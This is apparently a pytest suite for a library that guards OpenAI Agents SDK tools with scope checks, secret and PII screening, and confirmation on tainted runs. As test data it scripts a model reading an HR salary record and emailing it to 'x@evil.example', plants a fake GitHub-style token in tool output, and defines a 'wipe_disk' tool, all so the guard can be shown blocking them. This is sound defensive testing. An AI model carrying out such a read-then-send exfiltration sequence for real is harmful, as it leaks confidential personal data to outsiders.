"""Guarded function tools on the real OpenAI Agents SDK, against a loopback model.

The model server (``llm_support``) answers a ``CALL:`` message with the
scripted tool calls and, once the results are in, ``DONE:<results>``: the
final output is exactly what the model read from each tool.
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import Callable, Iterator
from typing import Any

import httpx
import pytest
from agents import (
    Agent,
    FunctionTool,
    ModelBehaviorError,
    OpenAIChatCompletionsModel,
    OpenAIResponsesModel,
    Runner,
    function_tool,
    set_tracing_disabled,
)
from openai import AsyncOpenAI

from aiinvariants import Guard, Policy, PolicyError, Principal, acting_as
from aiinvariants.audit import MemorySink
from aiinvariants.integrations.openai_agents import (
    guard_agent,
    guard_function_tool,
    guarded_function_tool,
)
from aiinvariants.taint import ConfirmationRequest, agent_run
from llm_support import LLMServer, _close_clients, _signed_in, llm_server

__all__ = ["_close_clients", "_signed_in", "llm_server"]

SECRET = "ghp_1a2B3c4D5e6F7g8H9i0JkLmNoPqRsTuVwXyZ9z"
READER = Principal(
    subject="reader",
    authenticated=True,
    scopes=frozenset({"kb:read", "hr:read", "mail:send"}),
    clearance="confidential",
)
NOBODY = Principal(subject="nobody", authenticated=True)

set_tracing_disabled(True)


HR_TOOLS: dict[str, Any] = {
    "read_hr": {"scopes": ["hr:read"], "data": "confidential"},
    "send_mail": {
        "scopes": ["mail:send"],
        "capabilities": ["sends_external"],
        "data": "public",
    },
}


def policy(server: LLMServer, **overrides: Any) -> Policy:
    doc: dict[str, Any] = {
        "models": {"allow": ["gpt-4.1*"], "deny": ["deepseek*"]},
        "regions": {"allow": ["eu-*"], "declared": {server.url: "eu-west-1"}},
        "tools": HR_TOOLS,
    }
    doc.update(overrides)
    return Policy(**doc)


def call(name: str, arguments: Any) -> dict[str, str]:
    raw = arguments if isinstance(arguments, str) else json.dumps(arguments)
    return {"name": name, "arguments": raw}


def script(*rounds: list[dict[str, str]]) -> str:
    return "CALL:" + json.dumps({"rounds": list(rounds)})


class World:
    """A guard, a guarded client, tools that count their runs."""

    def __init__(self, server: LLMServer, kind: str = "chat", **overrides: Any):
        self.server = server
        self.sink = MemorySink()
        self.guard = Guard(policy(server, **overrides), sinks=[self.sink])
        # No kept-alive connection: each test drives several event loops.
        http = httpx.AsyncClient(limits=httpx.Limits(max_keepalive_connections=0))
        self.client = self.guard.llm(
            AsyncOpenAI(
                api_key="k",
                base_url=server.url + "/v1",
                max_retries=0,
                http_client=http,
            )
        )
        cls = OpenAIChatCompletionsModel if kind == "chat" else OpenAIResponsesModel
        self.model = cls(model="gpt-4.1", openai_client=self.client)
        self.ran: list[str] = []

        @guarded_function_tool(
            self.guard, scopes=["kb:read"], data="public", hide_denied=False
        )
        def lookup(query: str) -> str:
            """Search the knowledge base."""
            self.ran.append("lookup")
            return f"found {query}"

        @function_tool
        def read_hr(person: str) -> str:
            """Read an HR record."""
            self.ran.append("read_hr")
            return f"{person} earns 4200 EUR"

        @function_tool
        def send_mail(to: str, body: str) -> str:
            """Send an e-mail."""
            self.ran.append("send_mail")
            return f"sent to {to}"

        self.lookup = lookup
        self.read_hr = read_hr
        self.send_mail = send_mail

    def agent(self, *tools: FunctionTool, **kwargs: Any) -> Agent[Any]:
        return guard_agent(
            self.guard,
            Agent(name="helper", model=self.model, tools=list(tools), **kwargs),
            guardrails=False,
        )

    def reasons(self, decision: str) -> list[str]:
        return [e.reason for e in self.sink.events if e.decision == decision]


@pytest.fixture
def world(llm_server: LLMServer) -> Iterator[World]:
    w = World(llm_server)
    yield w
    asyncio.run(w.client.close())


@pytest.fixture(params=["chat", "responses"])
def any_world(request: pytest.FixtureRequest, llm_server: LLMServer) -> Iterator[World]:
    w = World(llm_server, request.param)
    yield w
    asyncio.run(w.client.close())


async def _run(agent: Agent[Any], text: str) -> Any:
    return (await Runner.run(agent, text)).final_output


async def _streamed(agent: Agent[Any], text: str) -> Any:
    result = Runner.run_streamed(agent, text)
    async for _ in result.stream_events():
        pass
    return result.final_output


def _sync(agent: Agent[Any], text: str) -> Any:
    # run_sync drives the thread's default loop: give it one of its own.
    loop = asyncio.new_event_loop()
    asyncio.set_event_loop(loop)
    try:
        return Runner.run_sync(agent, text).final_output
    finally:
        loop.run_until_complete(loop.shutdown_asyncgens())
        asyncio.set_event_loop(None)
        loop.close()


RUNNERS: dict[str, Callable[[Agent[Any], str], Any]] = {
    "run": lambda a, t: asyncio.run(_run(a, t)),
    "run_streamed": lambda a, t: asyncio.run(_streamed(a, t)),
    "run_sync": _sync,
}


@pytest.mark.parametrize("kind", ["chat", "responses"])
@pytest.mark.parametrize("runner", sorted(RUNNERS))
def test_allowed_and_denied_calls_on_every_runner(
    llm_server: LLMServer, kind: str, runner: str
) -> None:
    w = World(llm_server, kind)
    try:
        agent = w.agent(w.lookup)
        text = script([call("lookup", {"query": "vpn"})])
        with acting_as(READER):
            assert RUNNERS[runner](agent, text) == "DONE:found vpn"
        assert w.ran == ["lookup"]
        with acting_as(NOBODY):
            out = RUNNERS[runner](agent, text)
        assert out.startswith("DONE:[I1/scope_missing]")
        assert w.ran == ["lookup"]  # the denied call never ran
        assert "scope_missing" in w.reasons("deny")
        assert "tool_allowed" in w.reasons("allow")
    finally:
        asyncio.run(w.client.close())


def test_the_decision_reads_the_parsed_arguments(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    from aiinvariants.integrations import _agents_tools
    from aiinvariants.tools import call_checked_tool

    seen: list[Any] = []

    def spy(*args: Any, **kwargs: Any) -> Any:
        seen.append(kwargs.get("arguments"))
        return call_checked_tool(*args, **kwargs)

    monkeypatch.setattr(_agents_tools, "call_checked_tool", spy)
    raw = '{"query": "first", "query": "second"}'  # duplicate key: the last wins
    with acting_as(READER):
        out = asyncio.run(
            _run(world.agent(world.lookup), script([call("lookup", raw)]))
        )
    assert out == "DONE:found second"
    assert seen == [{"query": "second"}]


def test_policy_declared_tools_are_guarded_by_guard_agent(world: World) -> None:
    agent = world.agent(world.read_hr)
    text = script([call("read_hr", {"person": "ann"})])
    with acting_as(NOBODY), pytest.raises(ModelBehaviorError, match="read_hr"):
        asyncio.run(_run(agent, text))  # hidden: the SDK refuses an unknown tool
    assert world.ran == []
    with acting_as(READER):
        assert asyncio.run(_run(agent, text)) == "DONE:ann earns 4200 EUR"


def test_a_denied_tool_is_not_offered_to_the_model(world: World) -> None:
    agent = world.agent(world.read_hr, world.lookup)
    with acting_as(Principal(subject="kb", authenticated=True, scopes={"kb:read"})):
        asyncio.run(_run(agent, "hello"))
    offered = [t.get("function", t).get("name") for t in world.server.last["tools"]]
    assert offered == ["lookup"]  # read_hr needs hr:read
    with acting_as(READER):
        asyncio.run(_run(agent, "hello"))
    offered = [t.get("function", t).get("name") for t in world.server.last["tools"]]
    assert sorted(offered) == ["lookup", "read_hr"]


def test_undeclared_tool_is_refused_by_guard_agent(world: World) -> None:
    @function_tool
    def wipe_disk() -> str:
        """Wipe the disk."""
        return "wiped"

    with pytest.raises(PolicyError, match="wipe_disk"):
        world.agent(wipe_disk)


def test_misuse_is_refused_with_a_clear_error(world: World) -> None:
    with pytest.raises(PolicyError, match=r"agents\.Agent, got FunctionTool"):
        guard_agent(world.guard, world.lookup)  # type: ignore[type-var]
    with pytest.raises(
        PolicyError, match="FunctionTool, got builtin_function_or_method"
    ):
        guard_function_tool(world.guard, print)  # type: ignore[arg-type]
    with pytest.raises(PolicyError, match="'secret-ish' is not one of"):
        guard_function_tool(world.guard, world.read_hr, data="secret-ish")


def test_forbidden_capability_is_refused_at_registration(world: World) -> None:
    @function_tool
    def open_floodgate(gate: int) -> str:
        """Open a gate."""
        return "open"

    with pytest.raises(PolicyError, match="life_safety"):
        guard_function_tool(world.guard, open_floodgate, capabilities=["life_safety"])
    # the same code under another name is refused too (capabilities stick)
    renamed = function_tool(open_floodgate.__wrapped__, name_override="check_level")
    with pytest.raises(PolicyError, match="life_safety"):
        guard_function_tool(world.guard, renamed, data="public")


def test_tainted_run_needs_confirmation(any_world: World) -> None:
    world = any_world
    agent = world.agent(world.read_hr, world.send_mail)
    text = script(
        [call("read_hr", {"person": "ann"})],
        [call("send_mail", {"to": "x@evil.example", "body": "ann earns 4200"})],
    )
    asked: list[ConfirmationRequest] = []

    def refuse(request: ConfirmationRequest) -> bool:
        asked.append(request)
        return False

    with acting_as(READER), agent_run(confirm=refuse) as run:
        out = asyncio.run(_run(agent, text))
    assert run.tainted
    assert out == (
        "DONE:ann earns 4200 EUR|[I12/tainted_run_needs_confirmation] tool "
        "'send_mail' has a consequential capability and this run has read "
        "untrusted content; it needs confirmation (tool.send_mail)"
    )
    assert world.ran == ["read_hr"]
    assert [r.tool for r in asked] == ["send_mail"]
    assert "tainted_run_needs_confirmation" in world.reasons("deny")

    with acting_as(READER), agent_run(confirm=lambda request: True):
        out = asyncio.run(_run(agent, text))
    assert out == "DONE:ann earns 4200 EUR|sent to [REDACTED]"  # PII is redacted
    assert world.ran == ["read_hr", "read_hr", "send_mail"]
    assert "tool_confirmed" in world.reasons("allow")


def test_a_secret_in_a_tool_result_never_reaches_the_model(world: World) -> None:
    @guarded_function_tool(world.guard, data="public")
    def leaky(query: str) -> dict[str, str]:
        """Return a config."""
        return {"token": SECRET, "query": query}

    agent = world.agent(leaky)
    with acting_as(READER):
        out = asyncio.run(_run(agent, script([call("leaky", {"query": "q"})])))
    assert out.startswith("DONE:[I8/output_blocked]")
    assert SECRET not in out
    assert not any(SECRET in json.dumps(body) for _, body in world.server.requests)
    assert "output_blocked" not in world.reasons("allow")


def test_an_error_message_carrying_a_secret_is_screened(world: World) -> None:
    # failure_error_function turns the exception into the tool result: that
    # text passes the output pipeline like any result.
    @guarded_function_tool(
        world.guard,
        data="public",
        failure_error_function=lambda ctx, error: str(error),
    )
    def broken(query: str) -> str:
        """Fail."""
        raise RuntimeError(f"upstream rejected token {SECRET}")

    with acting_as(READER):
        out = asyncio.run(
            _run(world.agent(broken), script([call("broken", {"query": "q"})]))
        )
    assert out.startswith("DONE:[I8/output_blocked]")
    assert SECRET not in out


def test_pii_in_a_tool_result_is_redacted(world: World) -> None:
    @guarded_function_tool(world.guard, data="public")
    def contact(name: str) -> str:
        """Find a contact."""
        return f"{name}: write to jane.doe@example.com"

    with acting_as(READER):
        out = asyncio.run(
            _run(world.agent(contact), script([call("contact", {"name": "Jane"})]))
        )
    assert out.startswith("DONE:Jane: write to ")
    assert "jane.doe@example.com" not in out


def test_data_above_the_declared_level_is_withheld(world: World) -> None:
    @guarded_function_tool(world.guard, data="public")
    def docs(query: str) -> list[dict[str, str]]:
        """Search documents."""
        return [{"text": "salaries 2026", "classification": "confidential"}]

    with acting_as(READER):
        out = asyncio.run(
            _run(world.agent(docs), script([call("docs", {"query": "pay"})]))
        )
    assert out.startswith("DONE:[I1/mislabelled_source]")
    assert "salaries" not in out


def test_stop_on_first_tool_returns_the_screened_result(world: World) -> None:
    agent = world.agent(world.lookup, tool_use_behavior="stop_on_first_tool")
    with acting_as(NOBODY):
        out = asyncio.run(_run(agent, script([call("lookup", {"query": "q"})])))
    assert out.startswith("[I1/scope_missing]")
    assert world.ran == []


def test_agent_as_tool_runs_its_tools_guarded(llm_server: LLMServer) -> None:
    w = World(llm_server, tools={"ask_hr": {"data": "public"}, **HR_TOOLS})
    try:
        inner = Agent(name="inner", model=w.model, tools=[w.read_hr])
        tool = inner.as_tool(tool_name="ask_hr", tool_description="Ask HR.")
        outer = w.agent(tool)
        assert getattr(type(inner), "_aiinvariants_guard", None) is w.guard
        nested = script([call("read_hr", {"person": "bob"})])
        text = script([call("ask_hr", {"input": nested})])
        with acting_as(READER):
            assert asyncio.run(_run(outer, text)) == "DONE:DONE:bob earns 4200 EUR"
        assert w.ran == ["read_hr"]
        kb_only = Principal(subject="kb", authenticated=True, scopes={"kb:read"})
        with acting_as(kb_only):
            out = asyncio.run(_run(outer, text))
        # read_hr is hidden from the nested agent; the SDK refuses the call
        # it makes anyway, and the agent tool reports a failure.
        assert out == "DONE:An error occurred while running the tool. Please try again."
        assert w.ran == ["read_hr"]
    finally:
        asyncio.run(w.client.close())


def test_concurrent_runs_are_decided_for_their_own_user(world: World) -> None:
    agent = world.agent(world.lookup)
    text = script([call("lookup", {"query": "q"})])

    async def as_user(who: Principal) -> Any:
        with acting_as(who):
            return await _run(agent, text)

    async def both() -> list[Any]:
        return list(await asyncio.gather(as_user(READER), as_user(NOBODY)))

    allowed, denied = asyncio.run(both())
    assert allowed == "DONE:found q"
    assert denied.startswith("DONE:[I1/scope_missing]")
